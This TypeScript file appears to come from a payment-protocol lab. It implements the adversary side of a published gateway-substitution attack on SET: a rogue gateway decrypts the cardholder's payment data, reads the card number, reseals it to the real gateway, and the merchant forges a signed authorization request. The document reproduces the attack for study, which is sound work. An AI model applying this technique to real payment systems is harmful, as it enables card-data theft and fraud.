/**
 * The Bella-Massacci-Paulson gateway substitution (digest 7.1), adversary side: an accomplice
 * gateway whose valid key-exchange certificate a dishonest merchant put in PInitRes opens the
 * cardholder's PI (learning the PAN), seals it again to the real gateway, and the merchant asks
 * the real gateway for the authorization with its own signed AuthReq.
 */

import { authReqDataFor } from "@setlab/merchant-server";
import {
  type CryptoProvider,
  decodeDer,
  EX,
  encodeDer,
  openEX,
  schema,
  sealAuthReq,
  verifyPReqAsMerchant,
  wholeSeconds,
  wrapMessage,
} from "@setlab/protocol";
import type { LabPki } from "@setlab/runtime";
import type { PurchAmt } from "./labHttp";
import { merIDOf as merIDFromCert } from "./messages";
import { adversaryProvider, decrypterOf, signerOf } from "./stolenKeys";

const piTypes = {
  contentType: schema.ContentType.PIDualSignedTBE,
  extraContentType: schema.ContentType.PANData,
};

export interface OpenedByAccomplice {
  /** The PReq (MessageWrapper DER) with its PI sealed again to `gatewayId`. */
  readonly resealed: Uint8Array;
  /** The PAN the accomplice read (kept in memory only; compare, never print). */
  readonly pan: string;
  readonly piHead: schema.PIHead;
}

/** Open a dual-signed PReq's PI with the accomplice's key and seal it again to another gateway. */
export async function openAndReseal(
  pki: LabPki,
  pReqDer: Uint8Array,
  accompliceId: string,
  gatewayId: string,
  p: CryptoProvider = adversaryProvider,
): Promise<OpenedByAccomplice> {
  const wrapper = schema.decodeMessage(pReqDer);
  if (wrapper.message.type !== "purchaseRequest" || wrapper.message.value.type !== "pReqDualSigned")
    throw new Error("not a dual-signed PReq");
  const value = wrapper.message.value.value;
  const opened = await openEX(
    p,
    await decrypterOf(pki, accompliceId, p),
    value.piDualSigned.exPIData,
    piTypes,
  );
  const piOILink = decodePIOILink(opened.t);
  const panData = decodePANData(opened.extra);
  const exPIData = await EX(p, pki.certificate(gatewayId), piTypes, opened.t, opened.extra);
  const resealed = schema.encodeMessage({
    ...wrapper,
    message: {
      type: "purchaseRequest",
      value: {
        type: "pReqDualSigned",
        value: { ...value, piDualSigned: { ...value.piDualSigned, exPIData } },
      },
    },
  });
  return { resealed, pan: panData.pan, piHead: piOILink.piHead };
}

const decodePIOILink = (t: Uint8Array) => decodeDer(schema.PI_OILink, t, "PI-OILink");
const decodePANData = (t: Uint8Array) => decodeDer(schema.PANData, t, "PANData");

/** What the dishonest merchant issued for the transaction (it checks its own PReq like a merchant). */
export interface RogueOrder {
  readonly transIDs: schema.TransIDs;
  readonly chall_M: Uint8Array;
  readonly od: Uint8Array;
  readonly purchAmt: PurchAmt;
  readonly brandID: string;
  readonly bin?: string;
}

/**
 * The dishonest merchant's AuthReq for a PReq (its PI sealed to `gatewayId`): checked as the lab
 * merchant checks it, signed with `merchantId`'s keys, sealed to the gateway. MessageWrapper DER.
 */
export async function merchantAuthReq(
  pki: LabPki,
  pReqDer: Uint8Array,
  order: RogueOrder,
  ids: { merchantSignatureId: string; merchantKeyExchangeId: string; gatewayId: string },
  p: CryptoProvider = adversaryProvider,
): Promise<{ authReq: Uint8Array; authRRPID: Uint8Array }> {
  const wrapper = schema.decodeMessage(pReqDer);
  if (wrapper.message.type !== "purchaseRequest") throw new Error("not a PReq");
  const verified = await verifyPReqAsMerchant(
    p,
    wrapper.message.value,
    {
      transIDs: order.transIDs,
      chall_M: order.chall_M,
      od: order.od,
      purchAmt: order.purchAmt,
      brandID: order.brandID,
      bin: order.bin,
      cardCertRequired: false,
    },
    { pinnedRoot: pki.root(), at: new Date() },
  );
  const signer = await signerOf(pki, ids.merchantSignatureId, p);
  const authSigner = {
    ...signer,
    chain: [pki.certificate(ids.merchantKeyExchangeId), ...(signer.chain ?? [])],
  };
  const merID = merIDFromCert(signer.certificate);
  const date = wholeSeconds(new Date());
  const authRRPID = p.random(20);
  const data = authReqDataFor(merID, authRRPID, date, order.transIDs, verified, order.purchAmt);
  const sealed = await sealAuthReq(
    p,
    authSigner,
    pki.certificate(ids.gatewayId),
    data,
    encodeDer(schema.PI, verified.pi),
  );
  const authReq = wrapMessage(
    { type: "authorizationRequest", value: sealed },
    { rrpid: authRRPID, lid_C: order.transIDs.lid_C, lid_M: order.transIDs.lid_M, xid: order.transIDs.xid },
    { date },
  );
  return { authReq, authRRPID };
}
